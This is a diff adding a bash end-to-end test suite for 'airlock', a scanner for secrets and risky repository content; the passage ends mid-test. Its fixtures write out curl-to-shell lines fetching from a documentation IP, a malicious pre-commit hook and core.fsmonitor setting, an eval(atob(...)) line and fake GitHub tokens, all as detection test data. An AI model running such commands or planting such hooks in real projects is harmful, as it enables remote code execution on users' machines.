@@ -1,0 +1,793 @@
+#!/usr/bin/env bash
+# e2e_scan.sh - end-to-end tests of the real airlock binary.
+#
+# Run from the repository root:  bash tests/e2e_scan.sh
+# The binary is $AIRLOCK_BIN (default build/airlock). Every fixture is built at
+# run time in a private mktemp directory, which is removed at the end. The tests
+# use the small, stable rule set in tests/data/rules (not the shipped rules/).
+#
+# Each test is a function named t_*; it runs in a subshell inside its own empty
+# directory, and fails (exit 1) at its first broken assertion, printing why.
+# The last line printed is "N passed, M failed"; the exit status is 1 if any
+# test failed.
+
+set -u
+
+ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
+BIN=${AIRLOCK_BIN:-build/airlock}
+case $BIN in /*) ;; *) BIN=$PWD/$BIN ;; esac
+RULES=$ROOT/tests/data/rules
+RULES_BAD=$ROOT/tests/data/rules-bad
+
+if [ ! -x "$BIN" ]; then
+	echo "e2e: $BIN is not an executable (build it with make, or set AIRLOCK_BIN)" >&2
+	echo "0 passed, 1 failed"
+	exit 1
+fi
+command -v python3 >/dev/null || { echo "e2e: python3 is required" >&2; exit 1; }
+
+WORK=$(mktemp -d "${TMPDIR:-/tmp}/airlock-e2e.XXXXXX")
+cleanup() {
+	# Fixtures made unreadable or FIFOs must not stop the removal.
+	chmod -R u+rwx "$WORK" 2>/dev/null
+	rm -rf "$WORK"
+}
+trap cleanup EXIT
+export AIRLOCK_CACHE_DIR=$WORK/cache
+unset AIRLOCK_RULES NO_COLOR
+
+# Test secrets: random-looking, but not real.
+PAT1=ghp_R2d5Zk9hV1pLbE1xT3BuUWRzYUJjRGVmR2hJ
+PAT2=ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5
+GEN1=q8Zr2LmX9vTk4WbN7yPd
+GEN2=Hx7Kq2Vz9RmT4LpW8nBc
+
+# ---- helpers -----------------------------------------------------------------
+
+# fail MESSAGE: prints the message and what the last command wrote, ends the test.
+fail() {
+	echo "  FAIL: $*"
+	if [ -n "${OUT:-}" ] && [ -f "$OUT" ]; then
+		echo "  --- stdout (first 2000 bytes):"
+		head -c 2000 "$OUT" | cat -v | sed 's/^/  | /'
+	fi
+	if [ -n "${ERR:-}" ] && [ -f "$ERR" ]; then
+		echo "  --- stderr (first 2000 bytes):"
+		head -c 2000 "$ERR" | cat -v | sed 's/^/  | /'
+	fi
+	exit 1
+}
+
+# al ARGS...: runs the binary; stdout in $OUT, stderr in $ERR, status in $RC.
+al() {
+	RC=0
+	timeout "${AL_TIMEOUT:-30}" "$BIN" "$@" >"$OUT" 2>"$ERR" || RC=$?
+	[ "$RC" != 124 ] || fail "timed out after ${AL_TIMEOUT:-30}s: airlock $*"
+	[ "$RC" -lt 128 ] || fail "killed by signal $((RC - 128)): airlock $*"
+}
+
+# scan ARGS...: airlock scan with the test rules and no colour.
+scan() { al scan --rules "$RULES" --color never "$@"; }
+
+# jsonq EXPR: evaluates a Python expression on the JSON in $OUT; d is the document,
+# F the list of findings, R(rule) the findings of one rule.
+jsonq() {
+	python3 -c '
+import json, sys
+d = json.load(open(sys.argv[1], "rb"))
+F = d.get("findings", []) if isinstance(d, dict) else []
+R = lambda rule: [f for f in F if f["rule"] == rule]
+print(eval(sys.argv[2]))' "$OUT" "$1"
+}
+
+expect_rc() {
+	[ "$RC" = "$1" ] || fail "exit status $RC, expected $1${2:+: $2}"
+}
+expect_eq() { # ACTUAL EXPECTED WHAT
+	[ "$1" = "$2" ] || fail "${3:-value}: got '$1', expected '$2'"
+}
+expect_q() { # EXPR EXPECTED
+	local v
+	v=$(jsonq "$1" 2>&1) || fail "cannot evaluate $1 on the output: $v"
+	[ "$v" = "$2" ] || fail "$1: got '$v', expected '$2'"
+}
+expect_json() { # the output is valid JSON
+	python3 -c 'import json,sys; json.load(open(sys.argv[1], "rb"))' "$OUT" 2>/dev/null ||
+		fail "output is not valid JSON"
+}
+expect_out_has() { grep -qF -- "$1" "$OUT" || fail "stdout does not contain '$1'"; }
+expect_out_lacks() { ! grep -qF -- "$1" "$OUT" || fail "stdout contains '$1'"; }
+expect_err_has() { grep -qF -- "$1" "$ERR" || fail "stderr does not contain '$1'"; }
+expect_out_empty() { [ ! -s "$OUT" ] || fail "stdout is not empty"; }
+
+# ---- exit status and options ---------------------------------------------------
+
+t_clean_tree_exits_0() {
+	mkdir -p t/src t/docs t/empty-dir
+	printf 'def main():\n    print("hello")\n' >t/src/main.py
+	printf '# Project\n\nRun `make` to build.\n' >t/docs/README.md
+	scan --format json t
+	expect_rc 0
+	expect_q 'len(F)' 0
+	expect_q 'd["stats"]["files"]' 2
+	scan t
+	expect_rc 0
+	expect_out_has '0 findings'
+}
+
+t_fail_on_thresholds() {
+	mkdir -p t/.github/workflows
+	echo 'on: [push]' >t/.github/workflows/ci.yml # one medium finding
+	scan t
+	expect_rc 1 "medium finding, default --fail-on medium"
+	for sev in info low medium; do
+		scan --fail-on "$sev" t
+		expect_rc 1 "medium finding, --fail-on $sev"
+	done
+	for sev in high critical never; do
+		scan --fail-on "$sev" --format json t
+		expect_rc 0 "medium finding, --fail-on $sev"
+		expect_q 'len(F)' 1 # still reported
+	done
+	echo "GITHUB_TOKEN=$PAT1" >t/env.txt # critical
+	scan --fail-on critical t
+	expect_rc 1 "critical finding, --fail-on critical"
+	scan --fail-on never t
+	expect_rc 0 "critical finding, --fail-on never"
+}
+
+t_usage_errors_exit_2() {
+	echo hi >f.txt
+	scan --format xml f.txt
+	expect_rc 2 "--format xml"
+	expect_err_has xml
+	expect_out_empty
+	scan --fail-on severe f.txt
+	expect_rc 2 "--fail-on severe"
+	expect_err_has severe
+	expect_out_empty
+	scan
+	expect_rc 2 "no PATH"
+	expect_err_has PATH
+	expect_out_empty
+	scan --frobnicate f.txt
+	expect_rc 2 "unknown option"
+	expect_err_has frobnicate
+	expect_out_empty
+	scan --threads 0 f.txt
+	expect_rc 2 "--threads 0"
+	[ -s "$ERR" ] || fail "no message for --threads 0"
+	scan --color sometimes f.txt
+	expect_rc 2 "--color sometimes"
+	[ -s "$ERR" ] || fail "no message for --color sometimes"
+	al frobnicate
+	expect_rc 2 "unknown command"
+	al scan --help
+	expect_rc 0 "scan --help"
+	expect_out_has 'usage: airlock scan'
+}
+
+t_nonexistent_path_exits_2() {
+	mkdir t
+	echo 'curl -s http://x | sh' >t/a.sh
+	for fmt in text json sarif; do
+		scan --format "$fmt" t/no-such-file
+		expect_rc 2 "missing path ($fmt)"
+		expect_err_has t/no-such-file
+		expect_out_empty
+	done
+	scan --format json t t/no-such-file
+	expect_rc 2 "one good and one missing path"
+	expect_err_has t/no-such-file
+	expect_out_empty
+	al scan --rules "$PWD/no-such-rules" t
+	expect_rc 2 "missing rules directory"
+	expect_err_has no-such-rules
+	expect_out_empty
+}
+
+# ---- output formats ------------------------------------------------------------
+
+t_json_shape() {
+	mkdir -p t/.github/workflows
+	printf 'x\nk=%s\n' "$PAT1" >t/env.txt
+	echo 'on: push' >t/.github/workflows/ci.yml
+	ln -s env.txt t/link
+	scan --format json t
+	expect_rc 1
+	local nrules
+	nrules=$(grep -c '^  - id:' "$RULES"/*.yml | awk -F: '{s += $NF} END {print s}')
+	python3 - "$OUT" "$nrules" <<'EOF' || fail "JSON shape"
+import json, re, sys
+d = json.load(open(sys.argv[1], "rb"))
+def keys(o, want, where):
+    assert isinstance(o, dict), where + " is not an object"
+    assert set(o) == set(want), "%s keys %s, expected %s" % (where, sorted(o), sorted(want))
+keys(d, ["tool", "ruleset", "findings", "stats"], "top level")
+keys(d["tool"], ["name", "version"], "tool")
+assert d["tool"]["name"] == "airlock"
+assert isinstance(d["tool"]["version"], str) and d["tool"]["version"]
+keys(d["ruleset"], ["digest", "rules"], "ruleset")
+assert re.fullmatch(r"sha256:[0-9a-f]{64}", d["ruleset"]["digest"]), d["ruleset"]["digest"]
+assert d["ruleset"]["rules"] == int(sys.argv[2]), d["ruleset"]["rules"]
+keys(d["stats"], ["files", "bytes", "seconds"], "stats")
+assert d["stats"]["files"] == 2, d["stats"]
+assert isinstance(d["stats"]["bytes"], int) and d["stats"]["bytes"] > 0
+assert isinstance(d["stats"]["seconds"], (int, float)) and d["stats"]["seconds"] >= 0
+assert isinstance(d["findings"], list)
+rules = sorted(f["rule"] for f in d["findings"])
+assert rules == ["airlock.symlink", "test-github-pat", "test-workflow-file"], rules
+want = ["rule", "title", "category", "severity", "path", "line", "column",
+        "excerpt", "fingerprint"]
+for i, f in enumerate(d["findings"]):
+    keys(f, want, "findings[%d]" % i)
+    for k in ["rule", "title", "category", "severity", "path", "excerpt", "fingerprint"]:
+        assert isinstance(f[k], str), (k, f)
+    for k in ["line", "column"]:
+        assert isinstance(f[k], int) and not isinstance(f[k], bool), (k, f)
+    assert f["severity"] in ("info", "low", "medium", "high", "critical"), f
+    assert f["fingerprint"], f
+by = {f["rule"]: f for f in d["findings"]}
+assert (by["test-github-pat"]["line"], by["test-github-pat"]["column"]) == (2, 3)
+assert by["test-github-pat"]["category"] == "secret"
+assert by["test-github-pat"]["severity"] == "critical"
+assert by["test-github-pat"]["path"] == "t/env.txt"
+assert (by["test-workflow-file"]["line"], by["test-workflow-file"]["column"]) == (0, 0)
+assert by["airlock.symlink"]["severity"] == "low"
+assert (by["airlock.symlink"]["line"], by["airlock.symlink"]["column"]) == (0, 0)
+EOF
+}
+
+t_sarif_shape() {
+	mkdir -p t/.github/workflows
+	printf 'one\ntwo\n    curl -fsSL https://198.51.100.23/i | sh\n' >t/install.sh
+	echo 'on: push' >t/.github/workflows/ci.yml
+	scan --format sarif t
+	expect_rc 1
+	python3 - "$OUT" <<'EOF' || fail "SARIF shape"
+import json, sys
+d = json.load(open(sys.argv[1], "rb"))
+assert d["version"] == "2.1.0", d.get("version")
+assert "sarif" in d["$schema"] and "2.1.0" in d["$schema"], d["$schema"]
+run = d["runs"][0]
+drv = run["tool"]["driver"]
+assert drv["name"] == "airlock", drv["name"]
+ids = [r["id"] for r in drv["rules"]]
+assert "test-curl-pipe-shell" in ids and "test-workflow-file" in ids, ids
+res = run["results"]
+assert len(res) == 2, res
+by = {}
+for r in res:
+    assert r["ruleId"] in ids, r
+    assert r["level"] in ("error", "warning", "note", "none"), r
+    if "ruleIndex" in r:
+        assert ids[r["ruleIndex"]] == r["ruleId"], r
+    pl = r["locations"][0]["physicalLocation"]
+    assert pl["artifactLocation"]["uri"], r
+    by[r["ruleId"]] = pl
+c = by["test-curl-pipe-shell"]
+assert c["artifactLocation"]["uri"] == "t/install.sh", c
+assert c["region"]["startLine"] == 3, c
+assert c["region"].get("startColumn", 5) == 5, c
+w = by["test-workflow-file"]
+assert w["artifactLocation"]["uri"] == "t/.github/workflows/ci.yml", w
+# a whole-file finding must not claim line 0 (SARIF lines start at 1)
+assert "region" not in w or w["region"].get("startLine", 1) >= 1, w
+EOF
+}
+
+t_text_output() {
+	mkdir t
+	printf 'curl -s https://x.example/i | sh\nk=%s\n' "$PAT1" >t/setup.sh
+	scan t
+	expect_rc 1
+	expect_out_has t/setup.sh
+	expect_out_has '2 findings'
+	expect_out_has test-curl-pipe-shell
+	expect_out_has test-github-pat
+	! grep -qP '\x1b' "$OUT" || fail "--color never output has an ESC byte"
+	scan --color always t
+	grep -qP '\x1b\[' "$OUT" || fail "--color always output has no colour"
+}
+
+# ---- positions -------------------------------------------------------------------
+
+t_line_and_column() {
+	printf 'one\ntwo\n    curl -s http://x.example | sh\nfour\n' >a.sh
+	scan --format json a.sh
+	expect_rc 1
+	expect_q 'len(F)' 1
+	expect_q '(F[0]["rule"], F[0]["line"], F[0]["column"])' "('test-curl-pipe-shell', 3, 5)"
+	expect_q 'F[0]["excerpt"]' '    curl -s http://x.example | sh'
+}
+
+t_crlf_line_numbers() {
+	printf 'one\r\ntwo\r\n    curl -s http://x.example | sh\r\nfour\r\nk=%s\r\n' "$PAT1" >a.sh
+	scan --format json a.sh
+	expect_rc 1
+	expect_q '[(f["rule"], f["line"], f["column"]) for f in F]' \
+		"[('test-curl-pipe-shell', 3, 5), ('test-github-pat', 5, 3)]"
+	expect_q 'any("\r" in f["excerpt"] for f in F)' False
+}
+
+t_utf8_columns_in_code_points() {
+	# é is 2 bytes, € 3 bytes, 😀 4 bytes: columns count code points.
+	printf 'ééé curl -s http://x | sh\n€😀 %s\n' "$PAT1" >u.sh
+	scan --format json u.sh
+	expect_rc 1
+	expect_q '[(f["rule"], f["line"], f["column"]) for f in F]' \
+		"[('test-curl-pipe-shell', 1, 5), ('test-github-pat', 2, 4)]"
+	scan --format sarif u.sh
+	expect_q '[(r["ruleId"], r["locations"][0]["physicalLocation"]["region"]["startLine"], r["locations"][0]["physicalLocation"]["region"]["startColumn"]) for r in d["runs"][0]["results"]]' \
+		"[('test-curl-pipe-shell', 1, 5), ('test-github-pat', 2, 4)]"
+}
+
+# ---- redaction, dedupe, fingerprints ---------------------------------------------
+
+t_redaction_every_format() {
+	mkdir t
+	{
+		echo "GITHUB_TOKEN=$PAT1"
+		echo "client_secret = \"$GEN1\""
+		echo "curl -s https://x.example/i?t=$PAT2 | sh" # the secret on another rule's line
+	} >t/config.txt
+	local fmt s
+	for fmt in text json sarif; do
+		scan --format "$fmt" t
+		expect_rc 1
+		for s in "$PAT1" "$PAT2" "$GEN1"; do
+			expect_out_lacks "$s"
+			! grep -qF -- "$s" "$ERR" || fail "stderr contains $s"
+		done
+		expect_out_has 'ghp_*****'
+		expect_out_has "${GEN1:0:4}*****"
+	done
+	scan --format json t
+	expect_q 'sorted(f["rule"] for f in F)' "['test-curl-pipe-shell', 'test-generic-secret', 'test-github-pat', 'test-github-pat']"
+	expect_q 'R("test-curl-pipe-shell")[0]["excerpt"]' 'curl -s https://x.example/i?t=ghp_***** | sh'
+}
+
+t_redaction_second_secret_on_line() {
+	# Only one finding per (rule, line) is reported, but every secret on the
+	# line must still be masked in every excerpt.
+	mkdir t
+	printf 'a=%s b=%s\n' "$PAT1" "$PAT1" >t/same.txt
+	printf 'a=%s b=%s\n' "$PAT1" "$PAT2" >t/two.txt
+	printf 'password=%s secret=%s\n' "$GEN2" "$GEN1" >t/kw.txt
+	local fmt s
+	for fmt in text json sarif; do
+		scan --format "$fmt" t
+		expect_rc 1
+		for s in "$PAT1" "$PAT2" "$GEN1" "$GEN2"; do
+			expect_out_lacks "$s"
+		done
+	done
+}
+
+t_dedupe_and_fingerprints() {
+	printf 'a=%s b=%s\n' "$PAT1" "$PAT1" >one-line.txt
+	scan --format json one-line.txt
+	expect_rc 1
+	expect_q 'len(R("test-github-pat"))' 1
+	expect_q '(F[0]["line"], F[0]["column"])' '(1, 3)'
+	printf 'a=%s\nb=%s\n' "$PAT1" "$PAT1" >two-lines.txt
+	scan --format json two-lines.txt
+	expect_q '[(f["line"], f["column"]) for f in R("test-github-pat")]' '[(1, 3), (2, 3)]'
+	expect_q 'len(set(f["fingerprint"] for f in F))' 2
+}
+
+t_fingerprint_stable_across_edits() {
+	printf 'k=%s\ncurl -s http://x | sh\n' "$PAT1" >f.sh
+	scan --format json f.sh
+	local fp1 fp2 pat_fp
+	fp1=$(jsonq '[f["fingerprint"] for f in F]')
+	pat_fp=$(jsonq 'R("test-github-pat")[0]["fingerprint"]')
+	expect_q '[f["line"] for f in F]' '[1, 2]'
+	{ printf '# unrelated\n\nexport A=1\n'; printf 'k=%s\ncurl -s http://x | sh\n' "$PAT1"; } >f.sh
+	scan --format json f.sh
+	expect_q '[f["line"] for f in F]' '[4, 5]'
+	fp2=$(jsonq '[f["fingerprint"] for f in F]')
+	expect_eq "$fp2" "$fp1" "fingerprints after inserting lines above"
+	# a different secret is a different finding
+	printf 'k=%s\n' "$PAT2" >f.sh
+	scan --format json f.sh
+	[ "$(jsonq 'F[0]["fingerprint"]')" != "$pat_fp" ] || fail "different secret, same fingerprint"
+}
+
+# ---- symlinks and special files ---------------------------------------------------
+
+t_symlinks_reported_not_followed() {
+	mkdir -p t/sub outside
+	echo 'plain' >t/a.txt
+	printf 'k=%s\ncurl -s http://x | sh\n' "$PAT1" >outside/secret.txt
+	ln -s ../a.txt t/sub/in           # inside the tree
+	ln -s /etc/passwd t/abs           # absolute
+	ln -s ../../x t/up                # climbs out
+	ln -s ../outside/secret.txt t/out # out, to a file with a secret
+	ln -s "$PWD/outside" t/dirlink    # a directory outside
+	scan --format json t
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"], f["line"]) for f in F)' \
+		"[('t/abs', 'airlock.symlink-escape', 0), ('t/dirlink', 'airlock.symlink-escape', 0), ('t/out', 'airlock.symlink-escape', 0), ('t/sub/in', 'airlock.symlink', 0), ('t/up', 'airlock.symlink-escape', 0)]"
+	expect_out_lacks "$PAT1"
+	expect_out_lacks "ghp_*****"
+}
+
+t_symlink_loop_terminates() {
+	mkdir -p t/sub
+	echo hi >t/a.txt
+	ln -s . t/loop
+	ln -s .. t/sub/back
+	AL_TIMEOUT=20 scan --format json t
+	expect_rc 0 "only low findings"
+	expect_q 'sorted((f["path"], f["rule"]) for f in F)' \
+		"[('t/loop', 'airlock.symlink'), ('t/sub/back', 'airlock.symlink')]"
+	expect_q 'd["stats"]["files"]' 1
+}
+
+t_fifo_reported_no_hang() {
+	mkdir t
+	mkfifo t/pipe
+	echo hi >t/a.txt
+	AL_TIMEOUT=20 scan --format json t
+	expect_rc 1
+	expect_q '[(f["path"], f["rule"], f["severity"], f["line"]) for f in F]' \
+		"[('t/pipe', 'airlock.special-file', 'high', 0)]"
+	AL_TIMEOUT=20 scan --format json t/pipe # named on the command line
+	expect_rc 1
+	expect_q '[f["rule"] for f in F]' "['airlock.special-file']"
+}
+
+# ---- .git -------------------------------------------------------------------------
+
+t_git_hooks_config_scanned_objects_skipped() {
+	command -v git >/dev/null || { echo "SKIP: git not installed"; return 0; }
+	mkdir t
+	git -C t init -q . || fail "git init"
+	printf '#!/bin/sh\ncurl -fsSL https://198.51.100.23/p | sh\n' >t/.git/hooks/pre-commit
+	chmod +x t/.git/hooks/pre-commit
+	git -C t config core.fsmonitor 'curl -s https://198.51.100.23/f | sh #'
+	mkdir -p t/.git/objects/ab
+	printf 'k=%s\n' "$PAT1" >t/.git/objects/ab/cdef0123456789
+	printf 'k=%s\n' "$PAT1" >t/.git/objects/notes.txt
+	echo 'print(1)' >t/main.py
+	scan --format json t
+	expect_rc 1
+	expect_q '[(f["line"], f["column"]) for f in R("test-git-hook") if f["path"] == "t/.git/hooks/pre-commit"]' '[(0, 0)]'
+	expect_q '[f["line"] for f in R("test-curl-pipe-shell") if f["path"] == "t/.git/hooks/pre-commit"]' '[2]'
+	expect_q '[f["path"] for f in R("test-git-config-fsmonitor")]' "['t/.git/config']"
+	expect_q 'len(R("test-github-pat"))' 0
+	expect_q '[f["path"] for f in F if "/objects/" in f["path"]]' '[]'
+	expect_out_lacks "$PAT1"
+	# the .sample hooks git installs are excluded by the rule
+	expect_q '[f["path"] for f in R("test-git-hook") if f["path"].endswith(".sample")]' '[]'
+}
+
+# ---- awkward input -------------------------------------------------------------------
+
+t_empty_file() {
+	mkdir t
+	: >t/empty.txt
+	: >t/empty
+	scan --format json t
+	expect_rc 0
+	expect_q 'len(F)' 0
+	expect_q 'd["stats"]["files"]' 2
+	expect_q 'd["stats"]["bytes"]' 0
+}
+
+t_nul_bytes_in_text_file() {
+	mkdir t
+	printf 'a\0b\nk=%s\n' "$PAT1" >t/notes.txt
+	printf '\0\0\0\0k=%s\n' "$PAT1" >t/run.sh
+	scan --format json t
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"], f["line"], f["column"]) for f in F)' \
+		"[('t/notes.txt', 'test-github-pat', 2, 3), ('t/run.sh', 'test-github-pat', 1, 7)]"
+	expect_out_lacks "$PAT1"
+}
+
+t_binary_file_not_content_scanned() {
+	mkdir t
+	printf '\0\1\2\3k=%s\ncurl -s http://x | sh\n' "$PAT1" >t/blob
+	printf '\0ELF k=%s\n' "$PAT1" >t/tool.bin
+	scan --format json t
+	expect_rc 0
+	expect_q 'len(F)' 0
+	expect_q 'd["stats"]["files"]' 2
+}
+
+t_invalid_utf8() {
+	mkdir t
+	printf '\xff\xfe\xc3(k=%s\xff\n\xed\xa0\x80 \xc0\xaf\n' "$PAT1" >t/bad.txt
+	printf 'ok\n\xe2\x28\xa1 curl -s http://x | sh \xf8\xa1\n' >t/bad.sh
+	scan --format json t
+	expect_rc 1
+	expect_json
+	# Column of the token after \xff \xfe \xc3 '(' 'k' '=': each invalid byte
+	# counts as one character. (For the stray continuation byte \xa1 in bad.sh
+	# the column is not checked: it is not a code point in any decoding.)
+	expect_q 'sorted((f["path"], f["rule"], f["line"]) for f in F)' \
+		"[('t/bad.sh', 'test-curl-pipe-shell', 2), ('t/bad.txt', 'test-github-pat', 1)]"
+	expect_q '[f["column"] for f in R("test-github-pat")]' '[7]'
+	expect_q '[("curl -s" in f["excerpt"], "ghp_*****" in f["excerpt"]) for f in F]' '[(True, False), (False, True)]'
+	expect_out_lacks "$PAT1"
+	scan --format sarif t
+	expect_rc 1
+	expect_json
+	expect_q 'len(d["runs"][0]["results"])' 2
+	scan t
+	expect_rc 1
+	expect_out_lacks "$PAT1"
+}
+
+t_huge_single_line() {
+	# 50 MiB on one line, the secret 1000 bytes before the end.
+	python3 - "$PAT1" <<'EOF' || fail "cannot build the fixture"
+import sys
+t = sys.argv[1].encode()
+n = 50 << 20
+off = n - 1000
+with open("big.txt", "wb") as f:
+    f.write(b"a" * (off - 1) + b" " + t + b" " + b"b" * (n - off - len(t) - 1))
+EOF
+	AL_TIMEOUT=120 scan --format json big.txt
+	expect_rc 1
+	expect_q '[(f["rule"], f["line"], f["column"]) for f in F]' \
+		"[('test-github-pat', 1, $(((50 << 20) - 1000 + 1)))]"
+	expect_q 'len(F[0]["excerpt"]) < 400' True
+	expect_q '"ghp_*****" in F[0]["excerpt"]' True
+	expect_out_lacks "$PAT1"
+	rm -f big.txt
+}
+
+t_secret_across_chunk_boundary() {
+	# Multi-line files, the token starting a few bytes before the 1 MiB mark so
+	# that it is split between two reads; also a keyword-gated rule there.
+	python3 - "$PAT1" "$GEN1" <<'EOF' || fail "cannot build the fixtures"
+import sys
+tok, gen = sys.argv[1].encode(), sys.argv[2].encode()
+line = b"x" * 99 + b"\n"
+exp = []
+for name, d, s in [("pat10", -10, tok), ("pat1", -1, tok), ("pat39", -39, tok),
+                   ("gen10", -10, b"secret = " + gen)]:
+    off = (1 << 20) + d
+    pre = (line * (off // 100 + 1))[:off]
+    pre = pre[:-1] + b" "
+    with open(name + ".txt", "wb") as f:
+        f.write(pre + s + b"\n" + line * 20)
+    exp.append("%s %d %d" % (name, pre.count(b"\n") + 1, off - pre.rfind(b"\n")))
+open("expect", "w").write("\n".join(exp) + "\n")
+EOF
+	local name line col rule
+	while read -r name line col; do
+		case $name in gen*) rule=test-generic-secret ;; *) rule=test-github-pat ;; esac
+		scan --format json "$name.txt"
+		expect_rc 1 "$name"
+		expect_q '[(f["rule"], f["line"], f["column"]) for f in F]' "[('$rule', $line, $col)]"
+		expect_out_lacks "$PAT1"
+		expect_out_lacks "$GEN1"
+	done <expect
+}
+
+t_unreadable_file_is_unscannable() {
+	local d runner=()
+	d=$(mktemp -d "${TMPDIR:-/tmp}/airlock-e2e-unreadable.XXXXXX")
+	chmod 755 "$d"
+	cp "$BIN" "$d/airlock"
+	cp -r "$RULES" "$d/rules"
+	mkdir -p "$d/t/locked"
+	printf 'k=%s\n' "$PAT1" >"$d/t/secret.sh"
+	echo 'curl -s http://x | sh' >"$d/t/locked/x.sh"
+	echo 'fine' >"$d/t/ok.txt"
+	chmod 000 "$d/t/secret.sh" "$d/t/locked"
+	chmod -R a+rX "$d/rules"
+	chmod 755 "$d/t" "$d/airlock"
+	if [ "$(id -u)" = 0 ]; then
+		if ! command -v setpriv >/dev/null; then
+			chmod -R u+rwx "$d"
+			rm -rf "$d"
+			echo "SKIP: running as root and setpriv (util-linux) is missing"
+			return 0
+		fi
+		runner=(setpriv --reuid=65534 --regid=65534 --clear-groups)
+	fi
+	RC=0
+	(cd "$d" && timeout 30 ${runner[@]+"${runner[@]}"} ./airlock scan --rules rules --no-cache \
+		--format json t) >"$OUT" 2>"$ERR" || RC=$?
+	chmod -R u+rwx "$d"
+	rm -rf "$d"
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"], f["severity"], f["category"], f["line"]) for f in F)' \
+		"[('t/locked', 'airlock.unscannable', 'high', 'unscannable', 0), ('t/secret.sh', 'airlock.unscannable', 'high', 'unscannable', 0)]"
+}
+
+t_broken_rules_exit_2() {
+	echo hi >f.txt
+	al scan --rules "$RULES_BAD" f.txt
+	expect_rc 2 "scan with broken rules"
+	expect_out_empty
+	local want
+	for want in \
+		'01-unknown-key.yml:8: rule bad-unknown-key' \
+		'03-dup-id-b.yml:3: rule bad-duplicate-id' \
+		'02-dup-id-a.yml:3' \
+		'04-bad-severity.yml:6: rule bad-severity' \
+		'05-bad-category.yml:5: rule bad-category' \
+		'06-backreference.yml:7: rule bad-backreference' \
+		'07-matches-empty.yml:7: rule bad-matches-empty' \
+		'08-no-pattern-no-paths.yml:3: rule bad-no-pattern-no-paths' \
+		'09-yaml-syntax.yml:11:' \
+		'10-no-literal.yml:7: rule bad-no-literal' \
+		'11-secret-group.yml:7: rule bad-secret-group' \
+		'12-duplicate-key.yml:8: rule bad-duplicate-key'; do
+		expect_err_has "$want"
+	done
+	al rules check "$RULES_BAD"
+	expect_rc 2 "rules check on broken rules"
+	for want in severty severe malware Back-reference 'empty string' \
+		"'pattern' or 'paths'" "add 'keywords'" 'group 3' "duplicate key"; do
+		grep -qF -- "$want" "$ERR" "$OUT" || fail "rules check does not mention '$want'"
+	done
+	al rules test "$RULES_BAD"
+	expect_rc 2 "rules test on broken rules"
+}
+
+t_hostile_file_name() {
+	mkdir t
+	local name
+	name=$'evil\x1b[31mred\nname.sh'
+	echo 'curl -s http://x | sh' >"t/$name"
+	scan t
+	expect_rc 1
+	! grep -qP '\x1b' "$OUT" || fail "text output contains a raw ESC byte"
+	grep -F evil "$OUT" | grep -qF name.sh || fail "the file name is split across lines"
+	scan --format json t
+	expect_rc 1
+	expect_json
+	expect_q 'F[0]["path"] == "t/evil\x1b[31mred\nname.sh"' True
+	scan --format sarif t
+	expect_rc 1
+	expect_json
+	expect_q 'len(d["runs"][0]["results"])' 1
+}
+
+# ---- path rules -------------------------------------------------------------------
+
+t_path_only_rules() {
+	mkdir -p t/.github/workflows t/x/.GitHub/Workflows t/.github/ISSUE_TEMPLATE
+	printf '\0\1\2 not even text' >t/.github/workflows/ci.yml
+	: >t/.github/workflows/empty.yaml
+	echo 'name: x' >t/x/.GitHub/Workflows/CI.YML
+	echo 'name: bug' >t/.github/ISSUE_TEMPLATE/bug.yml
+	echo 'see .github/workflows/ci.yml' >t/.github/workflows.md
+	scan --format json t
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"], f["line"], f["column"]) for f in F)' \
+		"[('t/.github/workflows/ci.yml', 'test-workflow-file', 0, 0), ('t/.github/workflows/empty.yaml', 'test-workflow-file', 0, 0), ('t/x/.GitHub/Workflows/CI.YML', 'test-workflow-file', 0, 0)]"
+}
+
+t_path_scoped_pattern() {
+	mkdir -p t/packages/cli
+	local pj='{"scripts": {"postinstall": "node setup.js"}}'
+	echo "$pj" >t/package.json
+	echo "$pj" >t/packages/cli/package.json
+	echo "$pj" >t/other.json
+	echo "$pj" >t/package.json.txt
+	scan --format json t
+	expect_rc 1
+	expect_q 'sorted((f["path"], f["rule"], f["line"], f["column"]) for f in F)' \
+		"[('t/package.json', 'test-npm-postinstall', 1, 14), ('t/packages/cli/package.json', 'test-npm-postinstall', 1, 14)]"
+}
+
+t_exclude_paths() {
+	mkdir -p t/src t/vendor/lib t/web
+	local c='eval(atob("YWxlcnQoMSk="));'
+	echo "$c" >t/src/app.js
+	echo "$c" >t/vendor/lib/x.js
+	echo "$c" >t/web/bundle.min.js
+	scan --format json t
+	expect_rc 1
+	expect_q '[(f["path"], f["rule"]) for f in F]' "[('t/src/app.js', 'test-eval-base64')]"
+}
+
+# ---- robustness ---------------------------------------------------------------------
+
+t_threads_same_result() {
+	mkdir t
+	local i
+	for i in $(seq 1 60); do
+		printf 'line\nk=%s\ncurl -s http://x/%d | sh\n' "$PAT1" "$i" >"t/f$i.sh"
+	done
+	scan --format json --threads 1 t
+	expect_rc 1
+	jsonq 'json.dumps(F, sort_keys=True)' >one.json
+	scan --format json --threads 2 t
+	jsonq 'json.dumps(F, sort_keys=True)' >two.json
+	cmp -s one.json two.json || fail "--threads 1 and --threads 2 report differently"
+	expect_q 'len(F)' 120
+}
+
+t_cache_reused_and_corruption_tolerated() {
+	mkdir t
+	printf 'k=%s\ncurl -s http://x | sh\n' "$PAT1" >t/a.sh
+	export AIRLOCK_CACHE_DIR=$PWD/cache
+	scan --format json t
+	expect_rc 1
+	local want db
+	want=$(jsonq '[(f["rule"], f["line"]) for f in F]')
+	db=$(ls cache/* 2>/dev/null | head -n 1)
+	[ -n "$db" ] || fail "no database cached in \$AIRLOCK_CACHE_DIR"
+	scan --format json t
+	expect_eq "$(jsonq '[(f["rule"], f["line"]) for f in F]')" "$want" "findings with the cache"
+	echo garbage >"$db"
+	scan --format json t
+	expect_rc 1
+	expect_eq "$(jsonq '[(f["rule"], f["line"]) for f in F]')" "$want" "findings with a garbage cache"
+	python3 -c 'import sys; p = sys.argv[1]; b = open(p, "rb").read(); open(p, "wb").write(b[:len(b) // 2])' "$db"
+	scan --format json t
+	expect_rc 1
+	expect_eq "$(jsonq '[(f["rule"], f["line"]) for f in F]')" "$want" "findings with a truncated cache"
+	scan --format json --no-cache t
